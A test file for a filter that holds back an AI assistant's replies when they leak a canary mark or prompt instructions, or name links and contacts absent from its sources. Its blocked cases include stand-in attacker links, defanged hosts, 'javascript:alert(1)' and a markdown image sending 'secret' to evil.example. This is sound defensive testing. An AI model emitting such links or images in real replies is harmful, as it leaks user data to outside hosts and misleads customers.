import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { OUTGOING_CHECKS, type OutgoingContext, whyHeldBack } from "./outgoing";
import { unknownContacts } from "./outgoing-contacts";

const context: OutgoingContext = {
  canary: "qzxwvkjhgfdsplmnbrtc",
  promptLines: ["Copy numbers, prices, dates, times, names, links and phone numbers exactly as they stand."],
  sources: [
    "Delivery.pdf\nTrack at https://corner.example/track?lang=en or write to help@corner.example. Phone: +1 (555) 010-0199.",
    "Links.md\nSee [our map](https://maps.example/corner).",
  ],
  ownWords: ["Our colleague's page is www.forum.example."],
  customerWords: ["My address is ann@home.example, my number is 020 7946 0123. Is www.lure.example yours?"],
  allowed: ["Corner Shop", "wa.me/15550100", "+44 20 7946 0018"],
};

describe("what the documents, the conversation or the account name may be sent", () => {
  test.each([
    "Standard delivery costs $4.90.",
    "Track it here: https://corner.example/track?lang=en.",
    "Track it at corner.example!",
    "Track it here: https://corner.example/track?",
    "It holds data:, and nothing else.",
    "Write to Help@Corner.example or call 555-010-0199.",
    "Our map: our map (https://maps.example/corner)",
    "We wrote to ann@home.example and called +44 20 7946 0123.",
    "As said, see forum.example.",
    "Write to us on wa.me/15550100 or call 020 7946 0018.",
    "From Delivery.pdf, page 2: version 2.0.1 costs 3.50 and runs from 10.30 a.m. on 01.02.2027, e.g. on Mondays.",
  ])("%s", (reply) => {
    expect(whyHeldBack(reply, context)).toBeUndefined();
  });
});

describe("what none of them names is held back", () => {
  test.each([
    ["https://evil.example/track", "https://evil.example/track"],
    ["corner.example/other", "corner.example/other"],
    ["corner.example/tra", "corner.example/tra"],
    ["corner.exam.com", "corner.exam.com"],
    ["track.corner.example", "track.corner.example"],
    ["www.lure.example", "www.lure.example"],
    ["suspicious.xyz", "suspicious.xyz"],
    ["evil[.]example", "evil.example"],
    ["evil (dot) example", "evil.example"],
    ["hxxps://evil.example", "https://evil.example"],
    ["javascript:alert(1)", "javascript:alert(1)"],
    ["tel:5550100200", "tel:5550100200"],
    ["bob@home.example", "bob@home.example"],
    ["+1 555 010 0200", "+1 555 010 0200"],
    ["![image](https://evil.example/?q=secret)", "https://evil.example/?q=secret)"],
  ])("%s", (contact, shown) => {
    const why = whyHeldBack(`Delivery is free, see ${contact}`, context);
    expect(why).toBe(`The reply named “${shown}”, which is not in the documents.`);
  });
});

test("each check holds back its own, and only its own", () => {
  const replies = {
    canary: `The mark is ${[...context.canary].join(" ")}`,
    instructions: "I copy numbers, prices, dates, times, names and more: numbers, prices, dates, times, names, links",
    contacts: "See evil.example",
  };
  for (const [name, reply] of Object.entries(replies))
    for (const [other, check] of Object.entries(OUTGOING_CHECKS))
      expect(check(reply, context) !== undefined).toBe(name === other);
});

const host = fc.tuple(fc.stringMatching(/^[a-z]{3,12}$/u), fc.constantFrom("com", "example", "xyz", "io", "de"));

test("a host is held back exactly when nobody has named it, wherever it stands", () => {
  fc.assert(
    fc.property(
      host,
      host,
      fc.constantFrom("", "https://", "http://www."),
      fc.boolean(),
      ([a, endA], [b, endB], scheme, known) => {
        fc.pre(a !== b);
        const reply = `Look at ${scheme}${a}.${endA}/page, please.`;
        const sources = [`We are at ${known ? `https://${a}.${endA}/page` : `https://${b}.${endB}/page`}.`];
        expect(unknownContacts(reply, sources)).toHaveLength(known ? 0 : 1);
      },
    ),
  );
});

test("what a text names is known to whoever has the text", () => {
  fc.assert(
    fc.property(fc.string({ unit: "grapheme", maxLength: 120 }), (text) => {
      expect(unknownContacts(text, [text])).toEqual([]);
    }),
  );
});
